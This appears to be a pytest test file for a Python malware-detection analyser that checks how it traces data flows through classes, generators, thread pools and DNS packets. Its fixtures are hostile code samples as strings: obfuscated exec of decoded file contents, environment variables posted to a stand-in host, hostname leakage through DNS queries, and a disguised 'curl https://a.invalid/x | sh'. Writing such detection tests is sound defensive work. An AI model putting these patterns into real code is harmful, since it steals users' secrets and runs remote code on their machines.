"""What is handed on in Python code: by classes, generators and pools, to name servers. All of it is inert text."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts, Fact
from adapters.sigil.local.code.python import python_facts

_SPELT = "ohvygvaf", "rkrp"  # builtins and exec, thirteen letters on


def look(code: str) -> CodeFacts:
    return python_facts("package/__init__.py", code.encode())


def flows(found: CodeFacts) -> set[tuple[Behaviour, Behaviour]]:
    return {(flow.source.behaviour, flow.sink.behaviour) for flow in found.flows}


def only(found: CodeFacts, behaviour: Behaviour) -> Fact:
    (fact,) = (each for each in found.facts if each.behaviour is behaviour)
    return fact


_MADE = {
    "by the class": "    @classmethod\n    def make(cls, text):\n        return cls(text).go()\n",
    "by a subclass's word": "    @classmethod\n    def make(kind, text):\n        new = kind(text)\n        new.go()\n",
    "by a function in it": "    @staticmethod\n    def make(text):\n        return Rule(text).go()\n",
}


@pytest.mark.parametrize("way", _MADE)
def test_a_class_makes_its_own(way: str) -> None:
    """What a method of the class itself, or a function in it, makes and runs is known as the class's."""
    code = (
        "import base64, codecs\n"
        "class Rule:\n"
        "    def __init__(self, text):\n"
        f"        self.text, self.run = text, vars(__import__(codecs.decode({_SPELT[0]!r}, 'rot13')))"
        f"[codecs.decode({_SPELT[1]!r}, 'rot13')]\n"
        "    def go(self):\n        self.run(base64.b64decode(self.text))\n"
        f"{_MADE[way]}"
        "Rule.make(open('table').read())\n"
    )
    found = look(code)
    assert only(found, Behaviour.RUNS_CODE).at_load
    assert {(Behaviour.DECODES, Behaviour.RUNS_CODE), (Behaviour.READS_FILE, Behaviour.RUNS_CODE)} <= flows(found)


def test_a_function_in_a_class_is_handed_no_instance() -> None:
    """The first thing that a static method is given is its first parameter."""
    code = (
        "import os, requests\n"
        "class A:\n    @staticmethod\n    def put(data, to):\n        requests.post(to, data=data)\n"
        "A().put(dict(os.environ), 'https://a.invalid/x')\n"
    )
    assert only(look(code), Behaviour.SENDS).detail == "https://a.invalid/x"


_GENERATORS = {
    "one after the other": "    yield 'name', 'sample'\n    yield 'all', str(dict(os.environ))\n",
    "in a loop": (
        "    yield 'name', 'sample'\n    for name in ('a', 'b'):\n        yield name, 'plain'\n"
        "    yield 'x', str(dict(os.environ))\n"
    ),
}


@pytest.mark.parametrize("way", _GENERATORS)
def test_a_generator_hands_out_all_that_it_has(way: str) -> None:
    """A value that is not the first which a generator hands out is followed as well, and only in its own place."""
    code = f"import os, requests\ndef gather():\n{_GENERATORS[way]}"
    sends = "for key, value in gather():\n    requests.post('https://a.invalid', data={})\n"
    flow = (Behaviour.READS_ENVIRONMENT, Behaviour.SENDS)
    assert flow in flows(look(code + sends.format("value")))
    assert flow not in flows(look(code + sends.format("key")))


_HANDED_ON = (
    "from concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor()\npool.submit(ship, {})\n",
    "import concurrent.futures as f\nwith f.ProcessPoolExecutor(2) as pool:\n    pool.submit(ship, {})\n",
    "import asyncio\nasync def go():\n    await asyncio.to_thread(ship, {})\nasyncio.run(go())\n",
    "import asyncio\nasync def go():\n    asyncio.get_event_loop().run_in_executor(None, ship, {})\nasyncio.run(go())",
    "import _thread\n_thread.start_new_thread(ship, ({},))\n",
    "import threading\nthreading.Timer(9, ship, [{}]).start()\n",
    "import threading\nthreading.Thread(None, ship, None, ({},)).start()\n",
    "import atexit\natexit.register(ship, {})\n",
)


@pytest.mark.parametrize("way", _HANDED_ON)
def test_what_a_function_is_to_be_called_with(way: str) -> None:
    """Pools, loops, timers and the interpreter's end hand a function what they were given with it."""
    code = "import os, requests\ndef ship(data):\n    requests.post('https://a.invalid', json=data)\n"
    flow = (Behaviour.READS_ENVIRONMENT, Behaviour.SENDS)
    assert flow in flows(look(code + way.format("dict(os.environ)")))
    assert flow not in flows(look(code + way.format("dict(a=1)")))


_QUESTIONS = {
    "sendto": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({}, ('ns.a.invalid', 53))",
    "sendto with flags": "s = socket.socket()\ns.sendto({}, 0, (SERVER, 53))",
    "connected": "s = socket.socket()\ns.connect(('192.0.2.7', 53))\ns.send({})",
}


@pytest.mark.parametrize("way", _QUESTIONS)
def test_a_question_put_to_a_name_server(way: str) -> None:
    """A packet for the port of name servers looks a name up, whoever put it together."""
    code = "import platform, socket\ndef labels(name):\n    return b'\\x01' + name.encode()\n" + _QUESTIONS[way]
    found = look(code.format("labels(platform.node() + '.a.invalid')"))
    assert (Behaviour.READS_SYSTEM, Behaviour.LOOKS_UP_NAME) in flows(found)
    assert not [fact for fact in found.facts if fact.behaviour is Behaviour.SENDS]


def test_packets_for_other_ports_are_sent_to_their_address() -> None:
    """A packet's address and port are told."""
    found = look("import socket\ns = socket.socket()\ns.sendto(b'x', ('192.0.2.7', 9000))\n")
    assert only(found, Behaviour.SENDS).detail == "192.0.2.7:9000"


_SHIFTED = {
    "less a number": "_t = lambda *c: ''.join(chr(x - {k}) for x in c)\n",
    "a list, with a key": "def _t(*c):\n    return ''.join([chr(x ^ {k}) for x in c])\n",
    "mapped": "def _t(*c):\n    return ''.join(map(chr, [x - {k} for x in c]))\n",
    "each by a function": "def _t(*c):\n    return ''.join(map(lambda x: chr(x - {k}), c))\n",
}


@pytest.mark.parametrize("way", _SHIFTED)
def test_names_out_of_numbers_make_a_file_telling(way: str) -> None:
    """A file that nowhere names what it uses is read where it makes characters by arithmetic."""
    key = 9

    def spelt(text: str) -> str:
        numbers = (ord(each) ^ key if "^" in _SHIFTED[way] else ord(each) + key for each in text)
        return f"_t({', '.join(map(str, numbers))})"

    code = (
        _SHIFTED[way].format(k=key)
        + f"def _go(s=globals()):\n    b=s[{spelt('__builtins__')}]\n    m = b[{spelt('__import__')}]({spelt('os')})\n"
        f"    getattr(m, {spelt('system')})({spelt('curl https://a.invalid/x | sh')})\n_go()\n"
    )
    fact = only(look(code), Behaviour.RUNS_SHELL)
    assert fact.at_load
    assert fact.detail == "curl https://a.invalid/x | sh"


def test_tables_of_characters_are_not_looked_at() -> None:
    """Characters of plain codes are everyday."""
    assert not look("UPPER = ''.join(chr(code) for code in range(65, 91))\nimport os\n").facts
